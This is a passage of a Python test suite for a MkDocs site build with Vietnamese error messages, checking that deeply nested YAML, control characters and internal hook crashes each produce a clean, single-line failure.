        if run.returncode:
            assert "Nội dung chưa hợp lệ" in output or "không dựng trang web" in output, output[-3000:]
        def outside_site(tree: dict) -> dict:
            return {path: status for path, status in tree.items()
                    if path != "repo/site" and not path.startswith("repo/site/")}

        assert outside_site(_tree(top)) == outside_site(before)
        assert [p.name for p in root.iterdir() if p.name.startswith(".site-")] in ([], [".site-cache"])


@pytest.mark.parametrize("target", [A, "units.yml", "criteria.yml"])
def test_dh003_deep_nesting_through_the_build(tmp_path, target):
    root = site_tree(tmp_path / "repo")
    levels = 60_000
    if target == A:
        text = (root / A).read_text(encoding="utf-8").replace("sources:\n", "extra: " + "- " * levels + "x\nsources:\n")
    else:
        text = (root / target).read_text(encoding="utf-8") + "extra:\n  " + "- " * levels + "x\n"
    (root / target).write_text(text, encoding="utf-8")
    run = _run([PYTHON, "-m", "mkdocs", "build", "--strict"], root)
    _assert_clean_failure(run)
    assert "Nội dung chưa hợp lệ" in run.stderr and target in run.stderr
    assert not (root / "site").exists()


def test_a_defect_of_the_program_reaches_the_editor_as_one_vietnamese_line(tmp_path, monkeypatch):
    """Whatever breaks inside a hook, MkDocs prints a message, never a Python traceback."""
    from mkdocs.exceptions import PluginError

    from showcase import mkdocs_hooks

    def broken(config):
        raise KeyError("x")

    monkeypatch.setattr(mkdocs_hooks._Build, "root", tmp_path)
    guarded = mkdocs_hooks._never_a_traceback(broken)
    with pytest.raises(PluginError) as caught:
        guarded(None)
    assert "Lỗi ngoài dự kiến" in str(caught.value) and "KeyError" in str(caught.value)
    assert "Traceback" in (tmp_path / mkdocs_hooks.CRASH_LOG).read_text(encoding="utf-8")
    assert all(getattr(mkdocs_hooks, name).__wrapped__ for name in dir(mkdocs_hooks) if name.startswith("on_"))


@pytest.mark.parametrize("char", ["\x07", "\x1b", "\x7f", "\ufffe"])
@pytest.mark.parametrize("rel, old", [(A, "name: Nguyễn Văn A"), ("units.yml", "UBND xã Gia Viễn")])
def test_dh110_control_character_the_yaml_reader_refuses(repo, rel, old, char):
    """libyaml refuses such a file whole, in English; the editor reads where and what, in Vietnamese."""
    repo.replace(rel, old, old + char)
    hits = [p for p in repo.validate().problems if p.path == rel]
    assert [p.code for p in hits] == ["DH110"], [(p.code, p.message) for p in hits]
    assert hits[0].line == line_of(repo.read(rel), old) and "U+" in hits[0].message
